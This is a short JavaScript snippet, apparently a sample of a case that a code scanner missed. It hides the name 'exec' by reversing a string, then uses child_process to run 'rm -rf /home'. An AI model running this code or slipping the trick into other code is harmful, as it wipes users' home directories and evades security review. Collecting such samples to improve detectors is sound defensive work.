// missed: a text turned around by an array
const name = 'cexe'.split('').reverse().join('');
require('child_process')[name]('rm -rf /home');
